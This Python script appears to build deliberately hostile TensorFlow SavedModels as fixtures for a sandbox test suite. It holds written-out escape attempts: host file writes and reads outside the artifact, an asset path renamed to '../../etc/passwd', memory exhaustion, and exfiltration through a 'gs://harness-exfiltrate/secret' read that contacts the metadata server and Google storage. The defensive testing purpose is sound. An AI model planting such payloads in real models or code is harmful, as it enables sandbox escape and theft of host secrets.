"""Hostile SavedModels, one per escape a model can really attempt through TensorFlow ops alone
(tests/test_sandbox.py runs them sandboxed and not):

- write:  tf.io.write_file to a host path outside the artifact (WRITE_TARGET)
- read:   tf.io.read_file of a host file outside the artifact (READ_TARGET), its length added to y
- net:    tf.io.read_file("gs://..."): TensorFlow's GCS file system opens TCP connections, first to
          the metadata server (GCE_METADATA_HOST, else metadata.google.internal) for a token, then
          to storage.googleapis.com; the object name can carry data out
- memory: a tensor of MEMORY_GIB GiB filled from the input (no constant folding can hide it)
- asset:  a SavedModel asset (a vocabulary file), its name to be replaced with one that leads out of
          the folder (`asset_name`): every SavedModel worker must refuse it before TensorFlow opens it
- ok:     y = 2x, harmless: the run goes on after the others

A SavedModel cannot fork or open a socket of its own (no TensorFlow op does; tf.py_function is not
serialised), so the process limit and the network namespace are also tested with the worker
process itself.

The targets are placeholders of fixed length in saved_model.pb; `place` puts a real path in a copy
(padded with `/.` to the same length, so the protobuf stays valid), so the models are built once.
Usage: python tests/hostile/build.py OUT [MEMORY_GIB]."""

import os
import shutil
import sys
from pathlib import Path

WRITE_TARGET = "/HARNESS-WRITE-TARGET-" + "x" * 200
READ_TARGET = "/HARNESS-READ-TARGET-" + "x" * 200
ASSET_NAME = "HARNESS-ASSET-" + "x" * 60 + ".txt"
MODELS = ("write", "read", "net", "memory", "asset", "ok")


def asset_name(model: Path, name: str) -> None:
    """Rename the asset in saved_model.pb (same length: `./` in front) to `name`, e.g. ../../etc/passwd."""
    pb = model / "saved_model.pb"
    pad = len(ASSET_NAME) - len(name)
    assert pad >= 0 and pad % 2 == 0, name
    pb.write_bytes(pb.read_bytes().replace(ASSET_NAME.encode(), ("./" * (pad // 2) + name).encode()))


def place(model: Path, out: Path, write_target: str = "/nonexistent", read_target: str = "/nonexistent") -> Path:
    """A copy of a built model with the real target paths in place of the placeholders."""
    shutil.copytree(model, out)
    pb = out / "saved_model.pb"
    data = pb.read_bytes()
    for placeholder, target in ((WRITE_TARGET, write_target), (READ_TARGET, read_target)):
        pad = len(placeholder) - len(target)
        assert pad >= 0 and target.startswith("/"), target
        padded = "/." * (pad // 2) + ("/" if pad % 2 else "") + target
        data = data.replace(placeholder.encode(), padded.encode())
    pb.write_bytes(data)
    return out


os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")



def save(out: str, name: str, body) -> None:
    import tensorflow as tf

    class M(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None], tf.float32, name="x")])
        def f(self, x):
            return {"y": body(x)}

    m = M()
    tf.saved_model.save(m, os.path.join(out, name), signatures={"serving_default": m.f})


def main() -> None:
    out = sys.argv[1]
    gib = float(sys.argv[2]) if len(sys.argv) > 2 else 4.0
    write_target, read_target = WRITE_TARGET, READ_TARGET

    import tensorflow as tf

    def write(x):
        tf.io.write_file(write_target, tf.strings.as_string(tf.reduce_sum(x)))
        return x * 2.0

    def read(x):
        return x + tf.cast(tf.strings.length(tf.io.read_file(read_target)), tf.float32)

    def net(x):
        return x + tf.cast(tf.strings.length(tf.io.read_file("gs://harness-exfiltrate/secret")), tf.float32)

    def memory(x):
        n = int(gib * (1 << 30)) // 4
        return x + tf.reduce_sum(tf.fill([n], x[0]))

    for name, body in (("write", write), ("read", read), ("net", net), ("memory", memory), ("ok", lambda x: x * 2.0)):
        save(out, name, body)

    vocab = Path(out) / ASSET_NAME
    vocab.write_text("a\nb\n")

    class WithAsset(tf.Module):
        def __init__(self):
            self.vocab = tf.saved_model.Asset(str(vocab))

        @tf.function(input_signature=[tf.TensorSpec([None], tf.float32, name="x")])
        def f(self, x):
            return {"y": x + tf.cast(tf.strings.length(tf.io.read_file(self.vocab.asset_path)), tf.float32)}

    m = WithAsset()
    tf.saved_model.save(m, os.path.join(out, "asset"), signatures={"serving_default": m.f})
    vocab.unlink()


if __name__ == "__main__":
    main()
